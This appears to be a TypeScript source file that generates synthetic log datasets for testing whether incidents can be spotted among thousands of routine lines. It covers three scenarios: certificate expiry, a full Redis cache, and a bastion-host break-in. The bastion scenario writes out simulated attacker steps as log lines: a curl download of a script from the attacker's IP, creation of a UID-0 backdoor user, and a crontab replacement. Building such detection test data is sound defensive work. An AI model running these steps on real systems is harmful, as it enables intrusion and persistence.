// Quiet incidents: a handful of true anomalous lines among thousands of ordinary ones.

import type { Scenario } from "../blind/types.js";
import { k8s, MIN, pino, pod, rng, syslog, Timeline, times, uuid, weighted, windowStart, zap } from "./kit.js";

export function quietClientCertExpiry(seed: number): Scenario {
  const name = "quiet-client-cert-expiry";
  const r = rng(seed, name);
  const t0 = windowStart(r);
  const t1 = t0 + 150 * MIN;
  const tl = new Timeline();
  const ship = pod(r, "shipping-quotes", "logistics");
  const carrier = pod(r, "carrier-gateway", "logistics");
  const notAfter = new Date(t0 + r.int(60, 110) * MIN);
  // Only the nightly carrier sync uses the expired client certificate: a few calls, each failing.
  for (const t of times(r, r.int(6, 10), notAfter.getTime() + MIN, t1)) {
    tl.add(
      t,
      zap(carrier, t, "error", "carrier/dhl.go:203", "carrier call failed", {
        carrier: "dhl-express",
        op: "SyncPickups",
        error: `Post "https://express.api.dhl.com/mydhlapi/pickups": tls: failed to verify certificate: x509: certificate has expired or is not yet valid: current time ${new Date(t).toISOString().slice(0, 19)}Z is after ${notAfter.toISOString().slice(0, 19)}Z`,
      }),
      "error",
    );
  }
  const n = r.int(4500, 5200) - tl.size;
  for (const t of times(r, n, t0, t1)) {
    tl.add(
      t,
      weighted(r, [
        [
          55,
          () =>
            zap(ship, t, "info", "quotes/handler.go:88", "quote served", {
              origin: r.pick(["DE", "FR", "NL", "PL"]),
              dest: r.pick(["DE", "US", "GB", "ES", "IT"]),
              weight_g: r.int(100, 30000),
              latency_ms: Number(r.logn(28, 0.35).toFixed(2)),
              request_id: uuid(r),
            }),
        ],
        [
          30,
          () =>
            zap(carrier, t, "info", "carrier/client.go:74", "carrier call", {
              carrier: r.pick(["ups", "gls", "dpd", "dhl-express"]),
              op: "Rate",
              status: 200,
              latency_ms: Number(r.logn(210, 0.4).toFixed(1)),
            }),
        ],
        [
          8,
          () =>
            k8s(
              carrier,
              t,
              `${new Date(t).toISOString().replace("T", " ").slice(0, 19).replace(/-/g, "/")} http: TLS handshake error from ${r.ip("10.0.")}:${r.int(30000, 60000)}: EOF`,
              {},
              "stderr",
            ),
        ],
        [
          5,
          () =>
            zap(carrier, t, "warn", "carrier/client.go:96", "carrier call retried", {
              carrier: r.pick(["ups", "gls", "dpd"]),
              op: "Rate",
              status: 429,
              attempt: 1,
            }),
        ],
        [2, () => zap(ship, t, "debug", "cache/lru.go:40", "cache evicted", { entries: r.int(10, 200) })],
      ] as const)(),
    );
  }
  return tl.scenario(
    name,
    "A carrier gateway whose client certificate expires mid-window: six to ten x509 failures among five thousand quote and rate lines, beside routine TLS handshake EOFs",
  );
}

export function quietSessionCacheFull(seed: number): Scenario {
  const name = "quiet-session-cache-full";
  const r = rng(seed, name);
  const t0 = windowStart(r);
  const t1 = t0 + 120 * MIN;
  const tl = new Timeline();
  const app = pod(r, "session-api", "identity");
  const redis = pod(r, "redis-sessions", "identity");
  const maxmemory = 4 * 1024 ** 3;
  const tFull = t0 + r.int(80, 105) * MIN;
  // The app's periodic cache stats (Redis INFO fields): normal around 60%, high in the last readings.
  for (let t = t0 + r.int(0, 60_000); t < t1; t += 5 * MIN) {
    const high = t >= tFull - 10 * MIN;
    const used = Math.round(maxmemory * (high ? 0.95 + r.next() * 0.045 : 0.55 + r.next() * 0.1));
    tl.add(
      t,
      pino(app, t, high ? "warn" : "info", "redis info", { used_memory: used, maxmemory, maxmemory_policy: "noeviction", connected_clients: r.int(40, 90) }),
      high ? "memory" : null,
    );
  }
  // Writes refused once it is full.
  for (const t of times(r, r.int(4, 8), tFull, t1)) {
    tl.add(
      t,
      pino(app, t, "error", "session write failed", {
        err: {
          type: "ReplyError",
          message: "OOM command not allowed when used memory > 'maxmemory'.",
          command: { name: "setex", args: [`sess:${r.hex(24)}`, "86400", "[Object]"] },
        },
      }),
      "memory",
    );
  }
  const n = r.int(3800, 4300) - tl.size;
  for (const t of times(r, n, t0, t1)) {
    tl.add(
      t,
      weighted(r, [
        [
          60,
          () =>
            pino(app, t, "info", "request completed", {
              req: { method: r.pick(["GET", "GET", "POST"]), url: "/v1/session" },
              res: { statusCode: 200 },
              responseTime: Math.round(r.logn(6, 0.4)),
            }),
        ],
        [10, () => pino(app, t, "info", "session refreshed", { user: r.int(1, 900000) })],
        [
          5,
          () =>
            pino(app, t, "info", "request completed", {
              req: { method: "GET", url: "/v1/session" },
              res: { statusCode: 401 },
              responseTime: Math.round(r.logn(4, 0.3)),
            }),
        ],
        [
          3,
          () =>
            k8s(
              redis,
              t,
              `1:M ${new Date(t).toUTCString().slice(5, 25).replace(" GMT", "")}.${String(t % 1000).padStart(3, "0")} * ${r.int(1, 100)} changes in 300 seconds. Saving...`,
            ),
        ],
        [
          3,
          () =>
            k8s(
              redis,
              t,
              `1:M ${new Date(t).toUTCString().slice(5, 25).replace(" GMT", "")}.${String(t % 1000).padStart(3, "0")} * Background saving terminated with success`,
            ),
        ],
      ] as const)(),
    );
  }
  return tl.scenario(
    name,
    "A session cache with noeviction reaching maxmemory late in the window: a few high INFO readings and refused writes among thousands of session requests",
  );
}

export function quietBastionLogin(seed: number): Scenario {
  const name = "quiet-bastion-root-login";
  const r = rng(seed, name);
  const t0 = windowStart(r);
  const t1 = t0 + 240 * MIN;
  const tl = new Timeline();
  const host = "bastion-01";
  const attacker = r.ip("185.220.");
  const ta = t0 + r.int(90, 200) * MIN;
  const pid = r.int(20000, 60000);
  const seq: [number, string, number | null, number, string][] = [
    [0, "sshd", pid, 6, `Accepted password for root from ${attacker} port ${r.int(30000, 60000)} ssh2`],
    [200, "systemd-logind", 812, 6, `New session ${r.int(4000, 9000)} of user root.`],
    [9000, "sudo", null, 5, `root : TTY=pts/3 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/curl -fsSL http://${attacker}/k.sh -o /tmp/.k`],
    [15000, "useradd", r.int(20000, 60000), 6, "new user: name=sysupd, UID=0, GID=0, home=/var/lib/sysupd, shell=/bin/bash, from=pts/3"],
    [21000, "sshd", pid, 6, "Received SIGHUP; restarting."],
    [28000, "crontab", r.int(20000, 60000), 6, "(root) REPLACE (root)"],
    [40000, "sshd", pid, 6, `pam_unix(sshd:session): session closed for user root`],
  ];
  for (const [dt, app, p, sev, msg] of seq) tl.add(ta + dt, syslog(ta + dt, host, app, p, sev, "authpriv", msg), "pattern");

  const staff = ["alice", "bkumar", "deploy", "ops-ci"];
  const n = r.int(3000, 3500) - tl.size;
  for (const t of times(r, n, t0, t1)) {
    const sp = r.int(2000, 60000);
    tl.add(
      t,
      weighted(r, [
        [
          40,
          () =>
            syslog(
              t,
              host,
              "sshd",
              sp,
              6,
              "authpriv",
              `Failed password for invalid user ${r.pick(["admin", "test", "oracle", "ubuntu", "postgres", "user"])} from ${r.ip(r.pick(["45.", "103.", "193."]))} port ${r.int(30000, 65000)} ssh2`,
            ),
        ],
        [
          15,
          () =>
            syslog(t, host, "sshd", sp, 6, "authpriv", `Connection closed by authenticating user root ${r.ip("61.")} port ${r.int(30000, 65000)} [preauth]`),
        ],
        [
          12,
          () =>
            syslog(
              t,
              host,
              "sshd",
              sp,
              6,
              "authpriv",
              `Accepted publickey for ${r.pick(staff)} from ${r.ip("10.20.")} port ${r.int(30000, 65000)} ssh2: ED25519 SHA256:${r.hex(20)}`,
            ),
        ],
        [10, () => syslog(t, host, "CRON", sp, 6, "cron", `(root) CMD (/usr/local/bin/rotate-keys --check >/dev/null 2>&1)`)],
        [10, () => syslog(t, host, "systemd", 1, 6, "daemon", `Started Session ${r.int(1000, 9000)} of User ${r.pick(staff)}.`)],
        [8, () => syslog(t, host, "sshd", sp, 6, "authpriv", `pam_unix(sshd:session): session closed for user ${r.pick(staff)}`)],
        [
          5,
          () =>
            syslog(
              t,
              host,
              "sudo",
              null,
              5,
              "authpriv",
              `${r.pick(staff)} : TTY=pts/${r.int(0, 4)} ; PWD=/home/${r.pick(staff)} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx`,
            ),
        ],
      ] as const)(),
    );
  }
  return tl.scenario(
    name,
    "A bastion host's auth log, mostly internet password spraying and staff key logins, with seven lines of a root password login that plants a UID-0 user and a cron job",
  );
}
